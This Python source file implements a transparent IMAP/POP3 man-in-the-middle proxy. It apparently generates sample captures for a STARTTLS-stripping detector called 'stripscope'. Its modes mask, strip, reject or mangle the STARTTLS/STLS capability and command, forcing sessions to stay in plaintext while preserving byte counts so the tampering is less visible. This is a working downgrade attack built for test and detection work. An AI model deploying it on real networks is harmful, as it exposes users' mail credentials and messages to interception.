#!/usr/bin/env python3
"""Transparent IMAP/POP3 tampering proxy for stripscope's sample captures.

Runs inside the middlebox namespace. iptables REDIRECTs the client's connections to
port 143 (IMAP) and 110 (POP3) here; the original destination is read back with
SO_ORIGINAL_DST (IPv4) or IP6T_SO_ORIGINAL_DST (IPv6) and the proxy opens its own
connection to that server. The client keeps seeing the server's address as its peer.
The protocol follows from the original destination port (143 IMAP, anything else POP3).

Modes (--mode takes a comma-separated list: the n-th session of the proxy's life uses the
n-th mode, the last one repeats; "pass,strip" relays the first session unchanged and strips
every later one):
  pass            relay bytes unchanged.
  mask            overwrite the STARTTLS capability in place with X of the same length:
                  IMAP "STARTTLS" atoms in "* CAPABILITY" responses and in [CAPABILITY ...]
                  response codes become "XXXXXXXX"; the POP3 CAPA line "STLS" becomes
                  "XXXX". Line lengths are kept, so the TCP byte counts do not change.
  strip           remove the STARTTLS atom (IMAP, with its leading space) or the "STLS"
                  CAPA line (POP3) altogether.
  reject          answer the client's STARTTLS/STLS itself, never forwarding it:
                  IMAP "<tag> NO STARTTLS not available", POP3 "-ERR TLS not available".
  mangle-command  overwrite the client's STARTTLS/STLS verb in place with X of the same
                  length ("a002 XXXXXXXX", "XXXX") before forwarding it to the server.

The proxy is line-aware in both directions while the session is plaintext (a line may
arrive split over several reads) and becomes a blind byte relay as soon as the server has
accepted STARTTLS/STLS (RFC 3501 section 6.2.1: tagged OK; RFC 2595 section 4: +OK to STLS;
the next bytes are the TLS handshake).

Standard library only. Logs one line per event to stderr.
"""

import argparse
import os
import re
import select
import signal
import socket
import struct
import sys
import threading

SO_ORIGINAL_DST = 80          # linux/netfilter_ipv4.h
IP6T_SO_ORIGINAL_DST = 80     # linux/netfilter_ipv6/ip6_tables.h
MAX_LINE = 8192               # longer "lines" are relayed as they are
IDLE_TIMEOUT = 30.0           # seconds without traffic before a session is dropped
MODES = ("pass", "mask", "strip", "reject", "mangle-command")
IMAP_PORTS = (143,)

# An IMAP command line: tag, space, verb (RFC 3501 section 9, "command").
IMAP_COMMAND = re.compile(rb"^([^\s()*%\"\\{]+) ([A-Za-z]+)(.*)$", re.S)
# The STARTTLS atom inside a capability list, delimited by spaces or the closing bracket.
IMAP_STARTTLS_ATOM = re.compile(rb"(?i)(?<= )STARTTLS(?=[ \]\r\n])")


def log(msg):
    sys.stderr.write("mailbox-tamper-proxy[%d]: %s\n" % (os.getpid(), msg))
    sys.stderr.flush()


def original_destination(conn, family):
    if family == socket.AF_INET:
        raw = conn.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)
        port = struct.unpack("!H", raw[2:4])[0]
        addr = socket.inet_ntop(socket.AF_INET, raw[4:8])
    else:
        raw = conn.getsockopt(socket.IPPROTO_IPV6, IP6T_SO_ORIGINAL_DST, 28)
        port = struct.unpack("!H", raw[2:4])[0]
        addr = socket.inet_ntop(socket.AF_INET6, raw[8:24])
    return addr, port


class Session:
    """One client connection and its server leg, driven by one select loop."""

    def __init__(self, client, family, mode):
        self.client = client
        self.family = family
        self.mode = mode
        self.imap = True
        self.server = None
        self.raw = False               # True once TLS bytes flow
        self.starttls_tag = None       # IMAP: tag of the forwarded STARTTLS, reply pending
        self.stls_sent = False         # POP3: STLS forwarded, reply pending
        self.in_capa = False           # POP3: inside the multi-line CAPA reply
        self.capa_pending = False      # POP3: CAPA sent, its status line not yet seen
        self.cbuf = b""                # partial client line
        self.sbuf = b""                # partial server line

    # ---- client -> server ------------------------------------------------
    def on_client_line(self, line):
        """Return the bytes to forward to the server for one client line."""
        if self.imap:
            m = IMAP_COMMAND.match(line)
            if not m or m.group(2).upper() != b"STARTTLS":
                return line
            tag = m.group(1)
            if self.mode == "reject":
                log("answered STARTTLS with NO on behalf of the server")
                self.client.sendall(tag + b" NO STARTTLS not available\r\n")
                return b""
            if self.mode == "mangle-command":
                log("overwrote the client's STARTTLS verb with X")
                return tag + b" " + b"X" * len(m.group(2)) + m.group(3)
            self.starttls_tag = tag
            return line
        verb = line.strip().upper()
        if verb == b"CAPA":
            self.capa_pending = True
        if verb != b"STLS":
            return line
        if self.mode == "reject":
            log("answered STLS with -ERR on behalf of the server")
            self.client.sendall(b"-ERR TLS not available\r\n")
            return b""
        if self.mode == "mangle-command":
            log("overwrote the client's STLS with XXXX")
            i = line.upper().find(b"STLS")
            return line[:i] + b"XXXX" + line[i + 4:]
        self.stls_sent = True
        return line

    # ---- server -> client ------------------------------------------------
    def on_server_line(self, line):
        """Return the bytes to forward to the client for one server line."""
        if self.imap:
            return self.on_imap_server_line(line)
        return self.on_pop3_server_line(line)

    def on_imap_server_line(self, line):
        upper = line.upper()
        if (upper.startswith(b"* CAPABILITY ") or b"[CAPABILITY " in upper) \
                and IMAP_STARTTLS_ATOM.search(line):
            if self.mode == "mask":
                log("masked STARTTLS as XXXXXXXX")
                line = IMAP_STARTTLS_ATOM.sub(b"XXXXXXXX", line)
            elif self.mode == "strip":
                log("removed STARTTLS from a capability list")
                line = re.sub(rb"(?i) STARTTLS(?=[ \]\r\n])", b"", line)
        if self.starttls_tag is not None and line.startswith(self.starttls_tag + b" "):
            status = line[len(self.starttls_tag) + 1:len(self.starttls_tag) + 4].upper()
            self.starttls_tag = None
            if status == b"OK ":
                log("STARTTLS accepted by server, relaying TLS bytes blindly")
                self.raw = True
        return line

    def on_pop3_server_line(self, line):
        body = line.rstrip(b"\r\n")
        if self.capa_pending:
            # RFC 2449 section 5: "+OK" opens the multi-line capability list, "-ERR" does not.
            self.capa_pending = False
            self.in_capa = body.startswith(b"+OK")
            return line
        if self.in_capa:
            if body == b".":
                self.in_capa = False
            elif body.upper() == b"STLS":
                if self.mode == "mask":
                    log("masked STLS as XXXX")
                    return b"XXXX" + line[len(body):]
                if self.mode == "strip":
                    log("removed the STLS capability line")
                    return b""
            return line
        if self.stls_sent:
            self.stls_sent = False
            if body.startswith(b"+OK"):
                log("STLS accepted by server, relaying TLS bytes blindly")
                self.raw = True
        return line

    # ---- plumbing --------------------------------------------------------
    @staticmethod
    def split_lines(buf, data):
        buf += data
        lines = []
        while True:
            i = buf.find(b"\n")
            if i < 0:
                if len(buf) > MAX_LINE:
                    lines.append(buf)
                    buf = b""
                break
            lines.append(buf[: i + 1])
            buf = buf[i + 1:]
        return buf, lines

    def run(self):
        try:
            dst = original_destination(self.client, self.family)
            self.imap = dst[1] in IMAP_PORTS
            peer = self.client.getpeername()
            log("%s mode, %s: client [%s]:%d -> server [%s]:%d"
                % (self.mode, "IMAP" if self.imap else "POP3", peer[0], peer[1], dst[0], dst[1]))
            self.server = socket.create_connection(dst, timeout=10)
            self.server.settimeout(None)
            if self.mode == "pass":
                self.raw = True
            self.loop()
        except OSError as e:
            log("session error: %s" % e)
        finally:
            for s in (self.client, self.server):
                if s is not None:
                    try:
                        s.close()
                    except OSError:
                        pass
            log("session closed")

    def loop(self):
        open_dirs = {self.client: self.server, self.server: self.client}
        while open_dirs:
            readable, _, _ = select.select(list(open_dirs), [], [], IDLE_TIMEOUT)
            if not readable:
                log("idle timeout")
                return
            for src in readable:
                dst = open_dirs.get(src)
                if dst is None:
                    continue
                data = src.recv(65536)
                if not data:
                    self.flush_partial(src, dst)
                    try:
                        dst.shutdown(socket.SHUT_WR)
                    except OSError:
                        pass
                    del open_dirs[src]
                    continue
                if self.raw:
                    self.flush_partial(src, dst)
                    dst.sendall(data)
                    continue
                # What arrived in one read leaves in one write, so the segment boundaries
                # the other side sees stay close to the original ones.
                if src is self.client:
                    self.cbuf, lines = self.split_lines(self.cbuf, data)
                    handle = self.on_client_line
                else:
                    self.sbuf, lines = self.split_lines(self.sbuf, data)
                    handle = self.on_server_line
                out = []
                for line in lines:
                    out.append(line if self.raw else handle(line))
                if self.raw:
                    self.flush_partial(src, None, out)
                if any(out):
                    dst.sendall(b"".join(out))

    def flush_partial(self, src, dst, out=None):
        """Pass on a partial line held for src: to dst, or appended to out."""
        held = self.cbuf if src is self.client else self.sbuf
        if not held:
            return
        if src is self.client:
            self.cbuf = b""
        else:
            self.sbuf = b""
        if out is not None:
            out.append(held)
        else:
            dst.sendall(held)


def listener(family, addr, port):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if family == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    s.bind((addr, port))
    s.listen(16)
    return s


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--mode", required=True,
                    help="mode per session, comma-separated; one of: " + ", ".join(MODES))
    ap.add_argument("--port", type=int, default=10143, help="local port iptables redirects to")
    # REDIRECT rewrites the destination to the incoming interface's primary address.
    ap.add_argument("--listen4", required=True, help="IPv4 address of the client-side interface")
    ap.add_argument("--listen6", required=True, help="IPv6 address of the client-side interface")
    ap.add_argument("--ready-file", help="file created once the listeners are bound")
    args = ap.parse_args()
    modes = [m.strip() for m in args.mode.split(",") if m.strip()]
    bad = [m for m in modes if m not in MODES]
    if not modes or bad:
        ap.error("unknown mode: %s" % ", ".join(bad or ["(none)"]))

    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    socks = {listener(socket.AF_INET, args.listen4, args.port): socket.AF_INET,
             listener(socket.AF_INET6, args.listen6, args.port): socket.AF_INET6}
    log("listening on port %d, modes %s" % (args.port, ",".join(modes)))
    if args.ready_file:
        with open(args.ready_file, "w") as f:
            f.write("%d\n" % os.getpid())
    sessions = 0
    while True:
        readable, _, _ = select.select(list(socks), [], [])
        for ls in readable:
            conn, _ = ls.accept()
            mode = modes[min(sessions, len(modes) - 1)]
            sessions += 1
            sess = Session(conn, socks[ls], mode)
            threading.Thread(target=sess.run, daemon=True).start()


if __name__ == "__main__":
    main()
